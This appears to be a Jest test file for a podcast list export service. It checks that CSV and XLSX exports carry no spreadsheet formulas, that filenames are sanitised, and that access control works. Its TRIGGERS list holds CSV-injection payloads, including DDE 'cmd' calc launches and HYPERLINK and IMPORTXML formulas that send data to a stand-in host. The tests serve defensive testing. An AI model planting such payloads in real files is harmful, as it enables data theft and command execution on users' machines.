import { execFileSync, spawnSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Test as Call } from "supertest";
import { readOpml } from "../catalogue/import/files/opml-reader.js";
import { newUser, type TestBrowser } from "../testing/service/test-browser.js";
import { testService, type TestService } from "../testing/service/test-service.js";

let service: TestService;
let ada: TestBrowser & { readonly id: string };
const folder = mkdtempSync(join(tmpdir(), "earshot-export-"));
beforeAll(async () => {
  service = await testService({ demo: true });
  ada = await newUser(service, "ada@example.org");
});
afterAll(async () => {
  rmSync(folder, { recursive: true, force: true });
  await service.close();
});

const newList = async (name: string): Promise<string> =>
  ((await ada.post("/lists", { name }).expect(201)).body as { id: string }).id;
const add = (list: string, podcastId: string, title: string, author: string | null = null) =>
  ada.post(`/lists/${list}/items`, { podcastId, payload: { title, author } }).expect(201);
const bytes = (call: Call): Call =>
  call.buffer(true).parse((answer, done) => {
    const pieces: Buffer[] = [];
    answer.on("data", (piece: Buffer) => pieces.push(piece));
    answer.on("end", () => done(null, Buffer.concat(pieces)));
  });

/** Texts that spreadsheets are known to run as formulas, or to read as a separator or the end of a cell. */
const TRIGGERS = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1,1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://evil.example?"&A1,"x")',
  '=IMPORTXML("http://evil.example","//a")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '";=1+1',
  '","=1+1',
  '"=1+1"',
  "'=1+1",
  "=1+1;=2+2",
  '=DDE("cmd";"/C calc";"x")',
];

const haveSpreadsheet = spawnSync("ssconvert", ["--version"]).status === 0;
if (!haveSpreadsheet)
  process.stderr.write("ssconvert (Debian: gnumeric) is missing: no spreadsheet opens the exports.\n");
const withSpreadsheet = haveSpreadsheet ? test : test.skip;

/** A file as a spreadsheet reads it: its cells in Gnumeric's XML, in which a formula is a value that begins with "=". */
function cellsOf(name: string, content: Buffer): { rows: string[][]; formulas: string[] } {
  writeFileSync(join(folder, name), content);
  const target = join(folder, `${name}.xml`);
  execFileSync("ssconvert", ["-T", "Gnumeric_XmlIO:sax:0", join(folder, name), target], { stdio: "ignore" });
  const xml = readFileSync(target, "utf8");
  const rows: string[][] = [];
  const formulas: string[] = [];
  const text = (raw: string): string =>
    raw.replace(/&(?:#(\d+)|#x([0-9a-f]+)|(\w+));/gi, (_all, decimal: string, hex: string, word: string) =>
      word
        ? ({ amp: "&", lt: "<", gt: ">", quot: '"', apos: "'" }[word] ?? "?")
        : String.fromCodePoint(decimal ? Number(decimal) : parseInt(hex, 16)),
    );
  for (const [, attributes = "", value = ""] of xml.matchAll(/<gnm:Cell ([^>]*?)(?:\/>|>([^]*?)<\/gnm:Cell>)/g)) {
    const at = (name: string): number => Number(new RegExp(`${name}="(\\d+)"`).exec(attributes)?.[1]);
    (rows[at("Row")] ??= [])[at("Col")] = text(value);
    // Values have a type; formulas have none.
    if (!attributes.includes("ValueType=")) formulas.push(text(value));
  }
  return { rows, formulas };
}

withSpreadsheet("a spreadsheet sees a formula where one is", () => {
  expect(cellsOf("formula.csv", Buffer.from('"=1+1","plain"\r\n')).formulas).toEqual(["=1+1"]);
});

withSpreadsheet(
  "a spreadsheet finds no formula in an export, and every row with its values",
  async () => {
    for (const name of ["=HYPERLINK(1)", "@SUM(1)"]) {
      const list = await newList(name);
      for (const [at, trigger] of TRIGGERS.entries()) await add(list, `p${at}`, trigger, trigger);
      const csv = await bytes(ada.get(`/lists/${list}/export.csv?sort=oldest`)).expect(200);
      const xlsx = await bytes(ada.get(`/lists/${list}/export.xlsx?sort=oldest`)).expect(200);
      const stored = TRIGGERS.map((trigger) => trigger.trim());
      const seen = cellsOf("list.csv", csv.body as Buffer);
      expect(seen.formulas).toEqual([]);
      expect(seen.rows[0]).toEqual(["list", "title", "author", "podcast_id", "added_at"]);
      // The quote is the spreadsheet's own mark for text: it displays only what follows.
      const shown = (text: string): string => text.replace(/^'/, "");
      expect(seen.rows.slice(1).map(([list, title, author]) => [list, title, author])).toEqual(
        stored.map((text) => [name, shown(text), shown(text)]),
      );
      const book = cellsOf("list.xlsx", xlsx.body as Buffer);
      expect(book.formulas).toEqual([]);
      expect(book.rows.slice(1).map(([list, title, author]) => [list, title, author])).toEqual(
        stored.map((text) => [name, text, text]),
      );
      expect(book.rows.slice(1).map((row) => row[3])).toEqual(TRIGGERS.map((_trigger, at) => `p${at}`));
    }
  },
  60_000,
);

withSpreadsheet("signs of XML and of other scripts are shown as they are", async () => {
  const list = await newList("Signs");
  await add(list, "a", "a <&> \u0001 😀 'b' \"c\"");
  const { body } = await bytes(ada.get(`/lists/${list}/export.xlsx`)).expect(200);
  expect(cellsOf("signs.xlsx", body as Buffer).rows[1]?.[1]).toBe("a <&> 😀 'b' \"c\"");
});

test.each([
  ["../../x", 'attachment; filename="x.csv"'],
  ['a"\r\nX: 1', 'attachment; filename="a_X_1.csv"'],
  ["😀".repeat(100), `attachment; filename="_.csv"; filename*=UTF-8''${"%F0%9F%98%80".repeat(60)}.csv`],
  ["To Pitch", 'attachment; filename="To_Pitch.csv"'],
])("the list %j is exported as %s", async (name, header) => {
  const answer = await ada.get(`/lists/${await newList(name)}/export.csv`).expect(200);
  expect(answer.headers["content-disposition"]).toBe(header);
  expect(answer.headers["content-type"]).toBe("text/csv; charset=utf-8");
  expect(answer.headers["x-content-type-options"]).toBe("nosniff");
  expect(answer.headers["x"]).toBeUndefined();
});

test("OPML lists the feeds, and imports as the same shows", async () => {
  const list = await newList("Feeds & more");
  const { results } = (await ada.get("/search?category=Comedy&limit=3").expect(200)).body as {
    results: { id: string; title: string }[];
  };
  const feed = (id: string): string => `https://feeds.example/${id}?a=1&b=2`;
  await service.database.dataSource.query(
    "UPDATE catalogue.podcasts SET feed_url = 'https://feeds.example/' || id || '?a=1&b=2' WHERE id = ANY($1)",
    [results.map(({ id }) => id)],
  );
  await ada.post(`/lists/${list}/items/batch`, { podcastIds: results.map(({ id }) => id) }).expect(200);
  await add(list, "gone", "<Gone>");
  const { body, headers } = await bytes(ada.get(`/lists/${list}/export.opml?sort=oldest`)).expect(200);
  expect(headers["content-disposition"]).toBe(
    `attachment; filename="Feeds___more.opml"; filename*=UTF-8''Feeds_%26_more.opml`,
  );
  expect(readOpml(body as Buffer)).toEqual(
    results.map(({ id, title }) => ({ title, address: feed(id), written: feed(id) })),
  );
  expect((body as Buffer).toString()).toContain('<outline text="&lt;Gone&gt;"');
});

test("exports items as JSON in the API's form, and an empty list as an empty file", async () => {
  const [list, empty] = [await newList("Data"), await newList("Empty")];
  await add(list, "a", "A");
  await add(list, "b", "B");
  const { items } = (await ada.get(`/lists/${list}/items`).expect(200)).body as { items: unknown[] };
  const exported = await ada.get(`/lists/${list}/export.json`).expect(200);
  expect(exported.body).toMatchObject({ list: { id: list, name: "Data" }, items });
  expect(((await ada.get(`/lists/${empty}/export.json`).expect(200)).body as { items: [] }).items).toEqual([]);
  expect((await ada.get(`/lists/${empty}/export.csv`).expect(200)).text.split("\r\n")).toHaveLength(2);
  expect(readOpml((await bytes(ada.get(`/lists/${empty}/export.opml`)).expect(200)).body as Buffer)).toEqual([]);
});

test("exports a whole list in each order, each item once", async () => {
  const list = await newList("Long");
  await service.database.dataSource.query(
    `INSERT INTO list_items (list_id, podcast_id, payload, created_at, title_key, search_text)
     SELECT $1, 'p' || n, jsonb_build_object('title', 'T' || n % 700, 'author', NULL, 'image_url', NULL),
       now() - (n % 50) * interval '1 microsecond', 't' || n % 700, 't' || n % 700
     FROM generate_series(1, 2500) n`,
    [list],
  );
  for (const sort of ["newest", "oldest", "title_asc", "title_desc"]) {
    const { text } = await ada.get(`/lists/${list}/export.csv?sort=${sort}`).expect(200);
    const ids = text.trimEnd().split("\r\n").slice(1).map((line) => line.split(",")[3]); // prettier-ignore
    expect(new Set(ids).size).toBe(2_500);
    const page = (await ada.get(`/lists/${list}/items?sort=${sort}&page=50`).expect(200)).body as {
      items: { podcastId: string }[];
    };
    expect(ids.slice(49 * 24, 50 * 24)).toEqual(page.items.map(({ podcastId }) => `"${podcastId}"`));
  }
});

test("refuses to export another person's list, or an unknown format", async () => {
  const list = await newList("Private");
  const ben = await newUser(service, "ben@example.org");
  for (const format of ["csv", "opml", "json", "xlsx"]) {
    const answer = await ben.get(`/lists/${list}/export.${format}`).expect(404);
    expect(answer.headers["content-disposition"]).toBeUndefined();
  }
  await ada.get(`/lists/${list}/export.pdf`).expect(400);
});
